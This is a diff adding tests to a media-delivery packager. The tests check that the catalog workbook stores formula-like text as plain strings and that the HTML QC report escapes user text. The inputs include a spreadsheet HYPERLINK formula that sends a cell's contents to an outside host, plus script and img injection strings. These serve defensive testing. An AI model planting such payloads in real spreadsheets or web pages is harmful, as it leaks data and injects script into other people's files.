@@ -21,9 +21,11 @@ from crossreel.delivery.registry import packagers
 from crossreel.domain.cue import Cue
 from crossreel.domain.delivery import PlannedFile
 from crossreel.domain.edit import EditHeader
+from crossreel.domain.episode import Episode
 from crossreel.domain.errors import BadInput, Cancelled, NotFound, ReadOnly, Refused, StorageFailed
 from crossreel.domain.finding import Finding, Severity, Waiver
-from crossreel.domain.track import Track
+from crossreel.domain.title import Title
+from crossreel.domain.track import Role, Track
 from crossreel.domain.workflow import State
 from crossreel.i18n.messages import sentence
 from crossreel.i18n.words import Words, findings_age
@@ -452,3 +454,47 @@ def test_a_track_that_went_is_forgotten(shelf: Shelf) -> None:
     with shelf.database.read() as uow:
         count = uow.connection.exec_driver_sql("SELECT count(*) FROM track_check").scalar()
     assert count == 6
+
+
+def test_words_that_look_like_formulas_are_words_in_the_workbook(shelf: Shelf, tmp_path: Path) -> None:
+    with shelf.database.read() as uow:
+        title, episode = uow.get(Title, shelf.title_id), uow.where(Episode)[0]
+    formula = '=HYPERLINK("http://example.org/?"&A1,"The Hidden Heir")'
+    shelf.change(replace(title, name=formula, rating="+1", country="@SUM(A1)"), replace(episode, name="-2+3"))
+    package = delivered(shelf, tmp_path / "out") / "data" / "HIDDENHEIR_S01"
+    book = openpyxl.load_workbook(package / "01_METADATA/HIDDENHEIR_S01_CATALOG_v01.xlsx")
+    cells = {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value}
+    assert {formula, "+1", "@SUM(A1)", "-2+3"} <= set(cells)
+    assert {cell.data_type for cell in cells.values()} == {"s", "n"}
+    assert all(cells[words].quotePrefix for words in (formula, "+1", "@SUM(A1)", "-2+3"))
+    book.close()
+
+
+def test_everything_people_wrote_is_escaped_in_the_report(shelf: Shelf, tmp_path: Path) -> None:
+    """No text of a cue, a title, a name or a reason is markup in the report."""
+    with shelf.database.read() as uow:
+        title, cue = uow.get(Title, shelf.title_id), uow.where(Cue, track_id=uow.where(Track, language="en")[0].id)[0]
+    shelf.change(replace(title, name="<b>Heir</b>"), replace(cue, text="&lt;img src=x&gt;"))
+    finding = replace(put_finding(shelf, Severity.WARNING), text="&lt;script&gt;alert(1)")
+    with shelf.database.derived() as uow:
+        uow.put(finding)
+    shelf.approve()
+    package = delivered(shelf, tmp_path / "out")
+    html = (package / "data/HIDDENHEIR_S01/00_DOCS/HIDDENHEIR_S01_QC_v01.html").read_text("utf-8")
+    assert "&lt;script&gt;alert(1)" in html
+    assert "&lt;b&gt;Heir&lt;/b&gt;" in html
+    assert not [markup for markup in ("<script", "<img", "<b>Heir") if markup in html]
+
+
+def test_sdh_subtitles_are_delivered_as_themselves(shelf: Shelf, tmp_path: Path) -> None:
+    with shelf.database.read() as uow:
+        track = uow.where(Track, language="en")[0]
+        cue = uow.where(Cue, track_id=track.id)[0]
+    beside = replace(track, id=shelf.database.new_id(), role=Role.SDH)
+    own = replace(cue, id=shelf.database.new_id(), track_id=beside.id, anchor_id=None, anchor_last_id=None, text="[door creaks]")
+    shelf.change(beside, own)
+    package = delivered(shelf, tmp_path / "out")
+    folder = package / "data/HIDDENHEIR_S01/05_SUBTITLES/en"
+    said = (folder / "sdh/HIDDENHEIR_S01E001_SUB_en_sdh_v01.srt").read_text("utf-8-sig")
+    assert "[door creaks]" in said
+    assert "[door creaks]" not in (folder / "full/HIDDENHEIR_S01E001_SUB_en_full_v01.srt").read_text("utf-8-sig")
